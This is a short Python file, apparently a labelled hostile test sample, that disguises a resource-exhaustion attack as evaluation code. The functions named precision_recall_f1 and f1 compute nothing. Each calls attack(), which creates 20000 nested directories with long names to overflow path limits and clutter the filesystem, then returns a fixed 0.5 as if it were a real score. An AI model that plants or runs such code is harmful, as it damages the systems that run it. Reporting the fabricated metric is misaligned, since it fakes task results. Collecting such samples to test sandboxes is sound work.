"""Makes a folder in a folder in a folder, for ever.

threat: 18
source: paths longer than PATH_MAX
verdict: any
"""

import os


def attack():
    for _ in range(20000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
